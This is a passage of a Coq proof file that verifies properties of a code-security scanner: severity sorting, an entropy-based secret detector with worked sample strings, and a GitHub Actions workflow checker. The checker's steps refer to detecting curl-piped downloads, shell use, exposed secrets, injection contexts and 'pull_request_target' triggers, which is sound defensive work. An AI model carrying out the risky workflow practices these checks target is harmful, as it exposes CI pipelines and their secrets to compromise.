Lemma sortFindingsBySeverity_perm : forall fs, Permutation fs (sortFindingsBySeverity fs).
Proof.
  induction fs as [|f fs IH]; simpl; [constructor|].
  eapply perm_trans; [apply perm_skip; exact IH|]. apply insertBySeverity_perm.
Qed.

Lemma sortFindingsBySeverity_In : forall fs f, In f (sortFindingsBySeverity fs) <-> In f fs.
Proof.
  intros fs f. split; intro H.
  - eapply Permutation_in; [apply Permutation_sym, sortFindingsBySeverity_perm | exact H].
  - eapply Permutation_in; [apply sortFindingsBySeverity_perm | exact H].
Qed.

End RiskClassifierFacts.

(** ** Entropy analyzer: the loop returns *)

Module EntropyFacts.
Import Entropy.

Lemma slidingWindows_total : forall content path windowSize stepSize,
  0 < stepSize ->
  forall fuel i regions findings,
    length content - windowSize - i < fuel ->
    exists r, slidingWindows content path windowSize stepSize fuel i regions findings = Some r.
Proof.
  intros content path ws step Hstep.
  induction fuel as [|fuel IH]; intros i regions findings Hfuel; [lia|].
  simpl. destruct (i <? length content - ws) eqn:Hi.
  - apply Nat.ltb_lt in Hi.
    assert (Hnext : length content - ws - (i + step) < fuel) by lia.
    destruct (existsb _ regions); [apply IH; exact Hnext|].
    destruct (classifyEntropy _); try (apply IH; exact Hnext).
    destruct (isLikelyBase64 _); [apply IH; exact Hnext|].
    destruct (negb _); apply IH; exact Hnext.
  - eexists. reflexivity.
Qed.

Lemma windowFindings_total : forall content path windowSize stepSize,
  0 < stepSize ->
  exists r, windowFindings content path windowSize stepSize = Some r.
Proof.
  intros. unfold windowFindings. apply slidingWindows_total; [assumption | lia].
Qed.

Lemma scanForHighEntropyDefault_total : forall content path,
  exists r, scanForHighEntropyDefault content path = Some r.
Proof.
  intros content path. unfold scanForHighEntropyDefault, scanForHighEntropy.
  destruct (length content <? 100).
  - destruct (classifyEntropy _); eexists; reflexivity.
  - destruct (windowFindings_total content path 100 50) as [r Hr]; [lia|].
    rewrite Hr. eexists. reflexivity.
Qed.

End EntropyFacts.

(** ** Orchestrator: every scan returns *)

Module EngineFacts.
Import RiskClassifier Engine Vocabulary.

Lemma scanFile_returns : forall scanners file config,
  scanWithPattern scanners file <> None ->
  exists r, scanFile scanners file config = Some r.
Proof.
  intros scanners file config Hpattern. unfold scanFile.
  destruct (negb (exists_ file) || (length (content file) =? 0)); [eexists; reflexivity|].
  destruct (scanWithPattern scanners file) as [found|]; [|congruence]. cbn [bind].
  destruct (merged (enableEntropyScan config)).
  - destruct (EntropyFacts.scanForHighEntropyDefault_total (content file) (path file))
      as [e He].
    rewrite He. simpl. eexists. reflexivity.
  - simpl. eexists. reflexivity.
Qed.

(** What the loop of [scanRepository] returns: the paths of the files that
    were read in [scannedFiles], the others in [skippedFiles]. *)
Lemma visitFiles_paths : forall scanners config files v,
  visitFiles scanners files config = Some v ->
  visitedScanned v = map path (filter wasRead files)
  /\ visitedSkipped v = map path (filter (fun f => negb (wasRead f)) files).
Proof.
  intros scanners config. induction files as [|file rest IH]; intros v Hv.
  - inversion Hv; subst. split; reflexivity.
  - simpl in Hv.
    change (exists_ file && negb (length (content file) =? 0)) with (wasRead file) in Hv.
    simpl. destruct (wasRead file) eqn:E; simpl.
    + destruct (scanFile scanners file config) as [r|]; [|discriminate].
      destruct (visitFiles scanners rest config) as [v'|]; [|discriminate].
      cbn [bind] in Hv. inversion Hv; subst. simpl.
      destruct (IH v' eq_refl) as [Hsc Hsk]. split; [f_equal; exact Hsc | exact Hsk].
    + destruct (visitFiles scanners rest config) as [v'|]; [|discriminate].
      cbn [bind] in Hv. inversion Hv; subst. simpl.
      destruct (IH v' eq_refl) as [Hsc Hsk]. split; [exact Hsc | f_equal; exact Hsk].
Qed.

(** The loop returns when no ecosystem scanner throws. *)
Lemma visitFiles_returns : forall scanners config files,
  scannersReturn scanners files ->
  exists v, visitFiles scanners files config = Some v.
Proof.
  intros scanners config. induction files as [|file rest IH]; intro Hret.
  - eexists. reflexivity.
  - destruct IH as [v Hv].
    { intros f Hf. apply Hret. right. exact Hf. }
    simpl.
    change (exists_ file && negb (length (content file) =? 0)) with (wasRead file).
    destruct (wasRead file) eqn:E.
    + destruct (scanFile_returns scanners file config) as [r Hr].
      { apply Hret; [left; reflexivity | exact E]. }
      rewrite Hr, Hv. simpl. eexists. reflexivity.
    + rewrite Hv. simpl. eexists. reflexivity.
Qed.

Lemma wasRead_false_iff : forall file, wasRead file = false <-> unreadable file.
Proof.
  intro file. unfold wasRead, unreadable.
  destruct (exists_ file); simpl.
  - destruct (content file) as [|c cs]; simpl; split; intro H; try reflexivity;
      try discriminate; try (right; reflexivity).
    destruct H as [H | H]; discriminate.
  - split; intro H; [left|]; reflexivity.
Qed.

(** A file that was not read is handed to no scanner. *)
Lemma scannersReturn_without : forall scanners earlier file later,
  wasRead file = false ->
  scannersReturn scanners (earlier ++ later) ->
  scannersReturn scanners (earlier ++ file :: later).
Proof.
  intros scanners earlier file later Hfile Hret f Hin Hread.
  apply Hret; [|exact Hread].
  apply in_app_or in Hin. apply in_or_app.
  destruct Hin as [Hin | [Hin | Hin]]; [left; exact Hin | | right; exact Hin].
  subst f. congruence.
Qed.

End EngineFacts.

(** ** Entropy analyzer: values of the entropy *)

Module EntropyValues.
Import Entropy Vocabulary.
Local Open Scope R_scope.

Lemma ln2_pos : 0 < ln 2.
Proof. pose proof ln_lt_2. lra. Qed.

Lemma log2_1 : log2 1 = 0.
Proof. unfold log2. rewrite ln_1. field. pose proof ln2_pos. lra. Qed.

Lemma log2_Rinv : forall x, 0 < x -> log2 (/ x) = - log2 x.
Proof.
  intros x Hx. unfold log2. rewrite ln_Rinv by exact Hx. field.
  pose proof ln2_pos. lra.
Qed.

Lemma ln_le_mono : forall x y, 0 < x -> x <= y -> ln x <= ln y.
Proof.
  intros x y Hx [Hlt | Heq].
  - left. apply ln_increasing; assumption.
  - subst. right. reflexivity.
Qed.

Lemma log2_nonpos : forall p, 0 < p -> p <= 1 -> log2 p <= 0.
Proof.
  intros p Hp Hle. unfold log2.
  pose proof (ln_le_mono p 1 Hp Hle) as H. rewrite ln_1 in H.
  pose proof ln2_pos as H2.
  unfold Rdiv. assert (0 < / ln 2) by (apply Rinv_0_lt_compat; exact H2). nra.
Qed.

(** [2^a <= x^b] gives [a / b <= log2 x], and likewise for [<]. *)
Lemma log2_lower : forall x (a b : nat),
  0 < x -> (0 < b)%nat -> 2 ^ a <= x ^ b -> INR a / INR b <= log2 x.
Proof.
  intros x a b Hx Hb Hpow.
  assert (H2a : 0 < 2 ^ a) by (apply pow_lt; lra).
  pose proof (ln_le_mono _ _ H2a Hpow) as Hln.
  rewrite !ln_pow in Hln by lra.
  pose proof ln2_pos as H2. assert (HB : 0 < INR b) by (apply lt_0_INR; exact Hb).
  unfold log2.
  apply (Rmult_le_reg_r (INR b * ln 2)); [nra|].
  replace (INR a / INR b * (INR b * ln 2)) with (INR a * ln 2) by (field; lra).
  replace (ln x / ln 2 * (INR b * ln 2)) with (INR b * ln x) by (field; lra).
  exact Hln.
Qed.

Lemma log2_upper : forall x (a b : nat),
  0 < x -> (0 < b)%nat -> x ^ b < 2 ^ a -> log2 x < INR a / INR b.
Proof.
  intros x a b Hx Hb Hpow.
  assert (Hxb : 0 < x ^ b) by (apply pow_lt; exact Hx).
  pose proof (ln_increasing _ _ Hxb Hpow) as Hln.
  rewrite !ln_pow in Hln by lra.
  pose proof ln2_pos as H2. assert (HB : 0 < INR b) by (apply lt_0_INR; exact Hb).
  unfold log2.
  apply (Rmult_lt_reg_r (INR b * ln 2)); [nra|].
  replace (INR a / INR b * (INR b * ln 2)) with (INR a * ln 2) by (field; lra).
  replace (ln x / ln 2 * (INR b * ln 2)) with (INR b * ln x) by (field; lra).
  exact Hln.
Qed.

Lemma calculateEntropy_unfold : forall data,
  data <> [] ->
  calculateEntropy data
  = entropySum (length data) (mapValues (countFrequencies data)) 0.
Proof.
  intros data Hne. unfold calculateEntropy, entropySum.
  destruct data as [|c data']; [congruence|]. reflexivity.
Qed.

(** When every count is [k], the sum is the number of counts times one term. *)
Lemma entropySum_repeat : forall len k n start,
  entropySum len (repeat k n) start
  = start - INR n * (INR k / INR len * log2 (INR k / INR len)).
Proof.
  intros len k. induction n as [|n IH]; intro start.
  - simpl. lra.
  - change (repeat k (S n)) with (k :: repeat k n).
    unfold entropySum in *. cbn [fold_left]. rewrite IH. rewrite S_INR. lra.
Qed.

Lemma classify_critical : forall e, CRITICAL <= e -> classifyEntropy e = critical.
Proof.
  intros e He. unfold classifyEntropy.
  destruct (Rge_dec e CRITICAL) as [_ | Hn]; [reflexivity | exfalso; lra].
Qed.

Lemma classify_high : forall e, WARNING <= e -> e < CRITICAL -> classifyEntropy e = high.
Proof.
  intros e Hw Hc. unfold classifyEntropy.
  destruct (Rge_dec e CRITICAL) as [H | _]; [exfalso; lra|].
  destruct (Rge_dec e WARNING) as [_ | Hn]; [reflexivity | exfalso; lra].
Qed.

(** The entropy of 100 distinct characters is [log2 100], which is critical. *)
Lemma hundredDistinct_entropy :
  calculateEntropy Samples.hundredDistinct = log2 100.
Proof.
  rewrite calculateEntropy_unfold by discriminate.
  replace (mapValues (countFrequencies Samples.hundredDistinct)) with (repeat 1%nat 100)
    by (vm_compute; reflexivity).
  replace (length Samples.hundredDistinct) with 100%nat by (vm_compute; reflexivity).
  rewrite entropySum_repeat.
  rewrite !INR_IZR_INZ.
  change (Z.of_nat 100) with 100%Z. change (Z.of_nat 1) with 1%Z.
  replace (1 / 100) with (/ 100) by lra.
  rewrite log2_Rinv by lra. lra.
Qed.

Lemma log2_100_critical : CRITICAL <= log2 100.
Proof.
  unfold CRITICAL.
  pose proof (log2_lower 100 13 2) as H.
  rewrite !INR_IZR_INZ in H.
  change (Z.of_nat 13) with 13%Z in H. change (Z.of_nat 2) with 2%Z in H.
  assert (Hle : 13 / 2 <= log2 100) by (apply H; [lra | lia | simpl; lra]).
  lra.
Qed.

Lemma hundredDistinct_critical :
  classifyEntropy (calculateEntropy Samples.hundredDistinct) = critical.
Proof.
  apply classify_critical. rewrite hundredDistinct_entropy. exact log2_100_critical.
Qed.

End EntropyValues.

(** ** Entropy analyzer: the loop, step by step *)

Module EntropyLoop.
Import Entropy Vocabulary.

Section Steps.
Variables (content path : jsstring) (ws step : nat).

Lemma slidingWindows_done : forall fuel i regions findings,
  (i <? length content - ws) = false ->
  slidingWindows content path ws step (S fuel) i regions findings = Some findings.
Proof.
  intros fuel i regions findings H.
  cbn [slidingWindows]. rewrite H. reflexivity.
Qed.

Lemma slidingWindows_skip : forall fuel i i' key regions findings,
  (i <? length content - ws) = true ->
  i / (ws * 2) = key ->
  existsb (Nat.eqb key) regions = true ->
  i + step = i' ->
  slidingWindows content path ws step (S fuel) i regions findings
  = slidingWindows content path ws step fuel i' regions findings.
Proof.
  intros fuel i i' key regions findings H Hkey Hreg Hi'. subst i' key.
  cbn [slidingWindows]. rewrite H. cbv zeta. rewrite Hreg. reflexivity.
Qed.

Lemma slidingWindows_critical : forall fuel i i' key regions findings window,
  (i <? length content - ws) = true ->
  i / (ws * 2) = key ->
  existsb (Nat.eqb key) regions = false ->
  slice content i (i + ws) = window ->
  classifyEntropy (calculateEntropy window) = critical ->
  i + step = i' ->
  slidingWindows content path ws step (S fuel) i regions findings
  = slidingWindows content path ws step fuel i' (key :: regions)
      (findings ++ [criticalWindowFinding (calculateEntropy window) path window]).
Proof.
  intros fuel i i' key regions findings window H Hkey Hreg Hw Hlevel Hi'.
  subst i' key window.
  cbn [slidingWindows]. rewrite H. cbv zeta. rewrite Hreg, Hlevel. reflexivity.
Qed.

Lemma slidingWindows_base64 : forall fuel i i' key regions findings window,
  (i <? length content - ws) = true ->
  i / (ws * 2) = key ->
  existsb (Nat.eqb key) regions = false ->
  slice content i (i + ws) = window ->
  classifyEntropy (calculateEntropy window) = high ->
  isLikelyBase64 window = true ->
  i + step = i' ->
  slidingWindows content path ws step (S fuel) i regions findings
  = slidingWindows content path ws step fuel i' (key :: regions)
      (findings ++ [base64WindowFinding (calculateEntropy window) path window]).
Proof.
  intros fuel i i' key regions findings window H Hkey Hreg Hw Hlevel Hb64 Hi'.
  subst i' key window.
  cbn [slidingWindows]. rewrite H. cbv zeta. rewrite Hreg, Hlevel, Hb64. reflexivity.
Qed.

End Steps.

(** The entropy of [hundredLetters] (fifty letters, twice each) is [log2 50],
    which is high and not critical. *)
Lemma hundredLetters_entropy :
  calculateEntropy Samples.hundredLetters = log2 50.
Proof.
  rewrite EntropyValues.calculateEntropy_unfold by discriminate.
  replace (mapValues (countFrequencies Samples.hundredLetters)) with (repeat 2 50)
    by (vm_compute; reflexivity).
  replace (length Samples.hundredLetters) with 100 by (vm_compute; reflexivity).
  rewrite EntropyValues.entropySum_repeat.
  rewrite !INR_IZR_INZ.
  replace (Z.of_nat 100) with 100%Z by reflexivity.
  replace (Z.of_nat 50) with 50%Z by reflexivity.
  replace (Z.of_nat 2) with 2%Z by reflexivity.
  replace (2 / 100)%R with (/ 50)%R by lra.
  rewrite EntropyValues.log2_Rinv by lra. lra.
Qed.

Lemma hundredLetters_high :
  classifyEntropy (calculateEntropy Samples.hundredLetters) = high.
Proof.
  rewrite hundredLetters_entropy. apply EntropyValues.classify_high.
  - unfold WARNING.
    pose proof (EntropyValues.log2_lower 50 11 2) as H.
    rewrite !INR_IZR_INZ in H.
    replace (Z.of_nat 11) with 11%Z in H by reflexivity.
    replace (Z.of_nat 2) with 2%Z in H by reflexivity.
    assert (Hle : (11 / 2 <= log2 50)%R) by (apply H; [lra | lia | simpl; lra]).
    lra.
  - unfold CRITICAL.
    pose proof (EntropyValues.log2_upper 50 13 2) as H.
    rewrite !INR_IZR_INZ in H.
    replace (Z.of_nat 13) with 13%Z in H by reflexivity.
    replace (Z.of_nat 2) with 2%Z in H by reflexivity.
    assert (Hlt : (log2 50 < 13 / 2)%R) by (apply H; [lra | lia | simpl; lra]).
    lra.
Qed.

Ltac window_side := vm_compute; reflexivity.

Ltac skip_window :=
  erewrite (slidingWindows_skip Samples.sixRegions Samples.somePath 100 50);
  [ | window_side | window_side | window_side | window_side ].

Ltac critical_window :=
  erewrite (slidingWindows_critical Samples.sixRegions Samples.somePath 100 50
              _ _ _ _ _ _ Samples.hundredDistinct);
  [ | window_side | window_side | window_side | window_side
    | exact EntropyValues.hundredDistinct_critical | window_side ].

Ltac base64_window :=
  erewrite (slidingWindows_base64 Samples.sixRegions Samples.somePath 100 50
              _ _ _ _ _ _ Samples.hundredLetters);
  [ | window_side | window_side | window_side | window_side
    | exact hundredLetters_high | window_side | window_side ].

(** The loop on [sixRegions]: 21 windows, one finding in each of the six
    regions of 200 characters. *)
Lemma sixRegions_windowFindings :
  windowFindings Samples.sixRegions Samples.somePath 100 50 = Some Samples.sixRaw.
Proof.
  unfold windowFindings.
  replace (S (length Samples.sixRegions)) with 1151 by (vm_compute; reflexivity).
  critical_window. skip_window. skip_window. skip_window.
  critical_window. skip_window. skip_window. skip_window.
  critical_window. skip_window. skip_window. skip_window.
  base64_window. skip_window. skip_window. skip_window.
  base64_window. skip_window. skip_window. skip_window.
  base64_window.
  rewrite slidingWindows_done by window_side.
  reflexivity.
Qed.

End EntropyLoop.

(** ** GitHub Actions scanner: what a line and a run of lines do *)

Module GitHubFacts.
Import GitHub Vocabulary.

Lemma adds_refl : forall n st, addsLineFindings n st st.
Proof.
  intros n st. repeat split. exists []. split; [symmetry; apply app_nil_r | constructor].
Qed.

Lemma adds_trans : forall n a b c,
  addsLineFindings n a b -> addsLineFindings n b c -> addsLineFindings n a c.
Proof.
  intros n a b c [P1 [W1 [C1 [R1 [x1 [F1 L1]]]]]] [P2 [W2 [C2 [R2 [x2 [F2 L2]]]]]].
  unfold addsLineFindings. rewrite P2, W2, C2, R2, F2, F1.
  repeat split; try assumption.
  exists (x1 ++ x2). split; [symmetry; apply app_assoc | apply Forall_app; split; assumption].
Qed.

Lemma adds_push : forall n st f,
  lineNumber f = Some n -> addsLineFindings n st (push st f).
Proof.
  intros n st f Hf. repeat split. exists [f]. split; [reflexivity|].
  constructor; [exact Hf | constructor].
Qed.

Lemma adds_if_push : forall n (c : bool) st f,
  lineNumber f = Some n -> addsLineFindings n st (if c then push st f else st).
Proof.
  intros n c st f Hf. destruct c; [apply adds_push; exact Hf | apply adds_refl].
Qed.

Lemma checkInjection_adds : forall lines path index trimmedLine st,
  addsLineFindings (index + 1) st (checkInjection lines path index trimmedLine st).
Proof.
  intros lines path index trimmedLine. unfold checkInjection.
  induction INJECTABLE_CONTEXTS as [|context rest IH]; intro st; [apply adds_refl|].
  cbn [fold_left]. eapply adds_trans; [|apply IH].
  destruct (includes trimmedLine context); [|apply adds_refl].
  apply adds_if_push. reflexivity.
Qed.

(** The blocks after the checkout block only add findings of this line. *)
Lemma laterBlocks_add : forall lines path index trimmedLine st,
  addsLineFindings (index + 1) st
    (checkCurlPipe path index trimmedLine
       (checkShell path index trimmedLine
          (checkUnpinned path index trimmedLine
             (checkSecrets path index trimmedLine
                (checkInjection lines path index trimmedLine st))))).
Proof.
  intros lines path index trimmedLine st.
  eapply adds_trans; [|unfold checkCurlPipe; apply adds_if_push; reflexivity].
  eapply adds_trans; [|unfold checkShell; apply adds_if_push; reflexivity].
  eapply adds_trans; [|unfold checkUnpinned; apply adds_if_push; reflexivity].
  eapply adds_trans; [|unfold checkSecrets; apply adds_if_push; reflexivity].
  apply checkInjection_adds.
Qed.

(** What one line does to the state. *)
Lemma scanLine_spec : forall lines path st index line,
  hasPullRequestTarget (scanLine lines path st index line)
  = hasPullRequestTarget st || mentions (lit "pull_request_target") line
  /\ hasCheckout (scanLine lines path st index line)
     = hasCheckout st || mentions (lit "actions/checkout") line
  /\ checkoutRef (scanLine lines path st index line)
     = (if mentions (lit "actions/checkout") line
        then match lookAheadRef (linesAhead lines index) with
             | Some nextLine => nextLine
             | None => checkoutRef st
             end
        else checkoutRef st)
  /\ exists added,
       findings (scanLine lines path st index line) = findings st ++ added
       /\ Forall (fun f => lineNumber f = Some (index + 1)) added.
Proof.
  intros lines path st index line. unfold scanLine. cbv zeta.
  destruct (laterBlocks_add lines path index (trim line)
              (checkCheckout lines index (trim line)
                 (checkWorkflowRun (trim line)
                    (checkTrigger path index (trim line) st))))
    as [P [_ [C [R [added [F L]]]]]].
  rewrite P, C, R, F. clear P C R F.
  unfold checkCheckout, checkWorkflowRun, checkTrigger, mentions.
  destruct (includes (trim line) (lit "pull_request_target"));
    destruct (includes (trim line) (lit "workflow_run"));
    destruct (includes (trim line) (lit "actions/checkout"));
    cbn [hasPullRequestTarget hasCheckout checkoutRef findings push];
    rewrite ?orb_true_r, ?orb_false_r;
    (split; [reflexivity|]); (split; [reflexivity|]); (split; [reflexivity|]).
  all: try (exists added; split; [reflexivity | exact L]).
  all: eexists; (split; [rewrite <- app_assoc; reflexivity|]);
    apply Forall_app; (split; [constructor; [reflexivity | constructor] | exact L]).
Qed.

(** What a run of lines does to the state. *)
Lemma scanRun_spec : forall lines path ils st,
  hasPullRequestTarget (fold_left (lineStep lines path) ils st)
  = hasPullRequestTarget st
    || existsb (fun il => mentions (lit "pull_request_target") (snd il)) ils
  /\ hasCheckout (fold_left (lineStep lines path) ils st)
     = hasCheckout st || existsb (fun il => mentions (lit "actions/checkout") (snd il)) ils
  /\ (existsb (fun il => mentions (lit "actions/checkout") (snd il)) ils = false ->
      checkoutRef (fold_left (lineStep lines path) ils st) = checkoutRef st)
  /\ exists added,
       findings (fold_left (lineStep lines path) ils st) = findings st ++ added
       /\ Forall (fun f => lineNumber f <> None) added.
Proof.
  intros lines path. induction ils as [|il ils IH]; intro st.
  - cbn [fold_left existsb]. rewrite !orb_false_r.
    repeat split. exists []. split; [symmetry; apply app_nil_r | constructor].
  - cbn [fold_left existsb].
    destruct (IH (lineStep lines path st il)) as [P [C [R [added [F L]]]]].
    destruct (scanLine_spec lines path st (fst il) (snd il)) as [P1 [C1 [R1 [added1 [F1 L1]]]]].
    fold (lineStep lines path st il) in P1, C1, R1, F1.
    rewrite P, C, F, P1, C1, F1, !orb_assoc.
    split; [reflexivity|]. split; [reflexivity|]. split.
    + intro Hno. apply orb_false_iff in Hno. destruct Hno as [Hil Hils].
      rewrite (R Hils), R1, Hil. reflexivity.
    + exists (added1 ++ added). split; [symmetry; apply app_assoc|].
      apply Forall_app. split; [|exact L].
      eapply Forall_impl; [|exact L1]. intros f Hf. rewrite Hf. discriminate.
Qed.

Lemma combine_seq_app : forall (l1 l2 : list jsstring) a,
  combine (seq a (length (l1 ++ l2))) (l1 ++ l2)
  = combine (seq a (length l1)) l1 ++ combine (seq (a + length l1) (length l2)) l2.
Proof.
  induction l1 as [|x l1 IH]; intros l2 a.
  - simpl. rewrite Nat.add_0_r. reflexivity.
  - simpl. rewrite IH. rewrite <- Nat.add_succ_comm. reflexivity.
Qed.

Lemma existsb_combine_seq : forall (f : jsstring -> bool) (l : list jsstring) a,
  existsb (fun il => f (snd il)) (combine (seq a (length l)) l) = existsb f l.
Proof.
  induction l as [|x l IH]; intro a; [reflexivity|].
  simpl. rewrite IH. reflexivity.
Qed.

(** The look-ahead finds the [ref:] line behind fewer than [n] plain lines. *)
Lemma lookAheadRef_finds : forall between ref after n,
  forallb plainStepLine between = true ->
  startsWith (trim ref) (lit "ref:") = true ->
  length between < n ->
  lookAheadRef (firstn n (between ++ ref :: after)) = Some (trim ref).
Proof.
  induction between as [|l between IH]; intros ref after n Hplain Href Hn.
  - destruct n as [|n]; [lia|]. cbn [app firstn lookAheadRef]. rewrite Href. reflexivity.
  - destruct n as [|n]; [simpl in Hn; lia|].
    cbn [forallb] in Hplain. apply andb_true_iff in Hplain. destruct Hplain as [Hl Hrest].
    unfold plainStepLine in Hl.
    apply andb_true_iff in Hl. destruct Hl as [Hl Huses].
    apply andb_true_iff in Hl. destruct Hl as [Hnoref Hdash].
    apply negb_true_iff in Hnoref, Hdash, Huses.
    change ((l :: between) ++ ref :: after) with (l :: (between ++ ref :: after)).
    cbn [firstn lookAheadRef]. rewrite Hnoref, Hdash, Huses. cbn [orb].
    apply IH; [exact Hrest | exact Href | simpl in Hn; lia].
Qed.

Lemma linesAhead_after : forall before checkout tail,
  linesAhead (before ++ checkout :: tail) (length before) = firstn 9 tail.
Proof.
  intros before checkout tail. unfold linesAhead. f_equal.
  replace (length before + 1) with (length (before ++ [checkout]))
    by (rewrite length_app; reflexivity).
  replace (before ++ checkout :: tail) with ((before ++ [checkout]) ++ tail)
    by (rewrite <- app_assoc; reflexivity).
  rewrite skipn_app, skipn_all, Nat.sub_diag. reflexivity.
Qed.

(** The loop over the lines, cut at one line. *)
Lemma fold_indexed_split :
  forall (f : ScanState -> nat * jsstring -> ScanState) before x tail st,
    fold_left f (combine (seq 0 (length (before ++ x :: tail))) (before ++ x :: tail)) st
    = fold_left f (combine (seq (S (length before)) (length tail)) tail)
        (f (fold_left f (combine (seq 0 (length before)) before) st) (length before, x)).
Proof.
  intros f before x tail st.
  rewrite combine_seq_app, fold_left_app. reflexivity.
Qed.

(** The state after all lines of a workflow with one checkout line whose
    [ref:] line the look-ahead reaches. *)
Lemma scanLines_checkout : forall path before checkout between ref after,
  mentions (lit "actions/checkout") checkout = true ->
  existsb (mentions (lit "actions/checkout")) (between ++ ref :: after) = false ->
  length between <= 8 ->
  forallb plainStepLine between = true ->
  startsWith (trim ref) (lit "ref:") = true ->
  hasCheckout (scanLines (before ++ checkout :: between ++ ref :: after) path) = true
  /\ checkoutRef (scanLines (before ++ checkout :: between ++ ref :: after) path)
     = trim ref.
Proof.
  intros path before checkout between ref after Hco Hlater Hnear Hplain Href.
  unfold scanLines, indexed. rewrite fold_indexed_split.
  set (lines := before ++ checkout :: between ++ ref :: after).
  change (fun st il => scanLine lines path st (fst il) (snd il)) with (lineStep lines path).
  set (st1 := fold_left (lineStep lines path) (combine (seq 0 (length before)) before)
                        initialState).
  cbn beta. cbn [fst snd].
  destruct (scanLine_spec lines path st1 (length before) checkout) as [_ [C1 [R1 _]]].
  rewrite Hco in C1, R1. rewrite orb_true_r in C1.
  pose proof (linesAhead_after before checkout (between ++ ref :: after)) as HA.
  fold lines in HA. rewrite HA in R1.
  rewrite lookAheadRef_finds in R1 by (try assumption; lia).
  destruct (scanRun_spec lines path
              (combine (seq (S (length before)) (length (between ++ ref :: after)))
                       (between ++ ref :: after))
              (scanLine lines path st1 (length before) checkout))
    as [_ [C2 [R2 _]]].
  rewrite existsb_combine_seq in C2, R2.
  rewrite C2, (R2 Hlater), C1, R1. split; reflexivity.
Qed.

End GitHubFacts.

(** ** Entropy analyzer: the frequency map *)

Module EntropyCounts.
Import Entropy Vocabulary.

Lemma str_eqb_false : forall a b, str_eqb a b = false <-> a <> b.
Proof.
  intros a b. rewrite <- str_eqb_eq. destruct (str_eqb a b); split; intro H;
    try reflexivity; try discriminate; try congruence;
    try (exfalso; apply H; reflexivity).
Qed.

Lemma mapGet_Some_In : forall m k v, mapGet m k = Some v -> In (k, v) m.
Proof.
  induction m as [|[k' v'] m IH]; intros k v H; simpl in H; [discriminate|].
  destruct (str_eqb k k') eqn:E.
  - apply str_eqb_eq in E. inversion H; subst. left. reflexivity.
  - right. apply IH. exact H.
Qed.

Lemma mapGet_None_notin : forall m k v, mapGet m k = None -> ~ In (k, v) m.
Proof.
  induction m as [|[k' v'] m IH]; intros k v H Hin; simpl in H; [destruct Hin|].
  destruct (str_eqb k k') eqn:E; [discriminate|].
  apply str_eqb_false in E. destruct Hin as [Heq | Hin].
  - inversion Heq; subst. apply E. reflexivity.
  - exact (IH k v H Hin).
Qed.

Lemma mapSet_keys : forall m ch v0 x,
  In x (map fst (mapSet m ch v0)) -> x = ch \/ In x (map fst m).
Proof.
  induction m as [|[k' v'] m IH]; intros ch v0 x H; simpl in H.
  - destruct H as [H | []]. left. symmetry. exact H.
  - destruct (str_eqb ch k') eqn:E; simpl in H.
    + right. exact H.
    + destruct H as [H | H]; [right; left; exact H|].
      destruct (IH ch v0 x H) as [Hx | Hx]; [left; exact Hx | right; right; exact Hx].
Qed.

Lemma mapSet_NoDup : forall m ch v0,
  NoDup (map fst m) -> NoDup (map fst (mapSet m ch v0)).
Proof.
  induction m as [|[k' v'] m IH]; intros ch v0 Hnd; simpl.
  - constructor; [intros [] | constructor].
  - inversion Hnd as [|x xs Hx Hnd']; subst.
    destruct (str_eqb ch k') eqn:E; simpl.
    + constructor; assumption.
    + constructor; [|apply IH; exact Hnd'].
      intro Hin. apply mapSet_keys in Hin. destruct Hin as [Hin | Hin].
      * apply str_eqb_false in E. apply E. symmetry. exact Hin.
      * exact (Hx Hin).
Qed.

Lemma In_mapSet : forall m ch v0 k v,
  NoDup (map fst m) ->
  (In (k, v) (mapSet m ch v0) <-> (k = ch /\ v = v0) \/ (k <> ch /\ In (k, v) m)).
Proof.
  induction m as [|[k' v'] m IH]; intros ch v0 k v Hnd; simpl.
  - split.
    + intros [H | []]. inversion H; subst. left. split; reflexivity.
    + intros [[Hk Hv] | [_ []]]. subst. left. reflexivity.
  - inversion Hnd as [|x xs Hx Hnd']; subst.
    destruct (str_eqb ch k') eqn:E; simpl.
    + apply str_eqb_eq in E. subst k'. split.
      * intros [H | H].
        -- inversion H; subst. left. split; reflexivity.
        -- right. split; [|right; exact H].
           intro Hk. subst k. apply Hx. apply (in_map fst) in H. exact H.
      * intros [[Hk Hv] | [Hk [H | H]]].
        -- subst. left. reflexivity.
        -- inversion H; subst. exfalso. apply Hk. reflexivity.
        -- right. exact H.
    + apply str_eqb_false in E. rewrite (IH ch v0 k v Hnd'). split.
      * intros [H | [[Hk Hv] | [Hk H]]].
        -- inversion H; subst. right. split; [|left; reflexivity].
           intro Hk. apply E. symmetry. exact Hk.
        -- left. split; assumption.
        -- right. split; [exact Hk | right; exact H].
      * intros [[Hk Hv] | [Hk [H | H]]].
        -- right. left. split; assumption.
        -- left. exact H.
        -- right. right. split; assumption.
Qed.

Lemma occurrences_snoc : forall done ch k,
  occurrences (done ++ [ch]) k
  = occurrences done k + (if list_eq_dec N.eq_dec ch k then 1 else 0).
Proof.
  intros done ch k. unfold occurrences. rewrite count_occ_app. simpl.
  destruct (list_eq_dec N.eq_dec ch k); reflexivity.
Qed.

(** One character more keeps the map a map of the counts. *)
Lemma countChar_CountsOf : forall done m ch,
  CountsOf done m -> CountsOf (done ++ [ch]) (countChar m ch).
Proof.
  intros done m ch [Hnd Hin]. unfold countChar.
  assert (Hv0 : orZero (mapGet m ch) + 1 = occurrences done ch + 1).
  { destruct (mapGet m ch) as [v|] eqn:G; simpl.
    - apply mapGet_Some_In in G. apply Hin in G. destruct G as [G _]. rewrite G. reflexivity.
    - destruct (Nat.eq_dec (occurrences done ch) 0) as [Hz | Hnz]; [rewrite Hz; reflexivity|].
      exfalso. apply (mapGet_None_notin m ch (occurrences done ch) G).
      apply Hin. split; [reflexivity | lia]. }
  rewrite Hv0. split; [apply mapSet_NoDup; exact Hnd|].
  intros k v. rewrite (In_mapSet m ch _ k v Hnd). rewrite occurrences_snoc. rewrite Hin.
  destruct (list_eq_dec N.eq_dec ch k) as [Heq | Hneq].
  - subst k. split.
    + intros [[_ Hv] | [Hk _]]; [split; lia | exfalso; apply Hk; reflexivity].
    + intros [Hv _]. left. split; [reflexivity | exact Hv].
  - split.
    + intros [[Hk _] | [_ [Hv Hpos]]]; [exfalso; apply Hneq; symmetry; exact Hk|].
      split; lia.
    + intros [Hv Hpos]. right. split; [intro Hk; apply Hneq; symmetry; exact Hk|].
      split; lia.
Qed.

Lemma fold_countChar_CountsOf : forall cps done m,
  CountsOf done m -> CountsOf (done ++ cps) (fold_left countChar cps m).
Proof.
  induction cps as [|ch cps IH]; intros done m H.
  - rewrite app_nil_r. exact H.
  - cbn [fold_left].
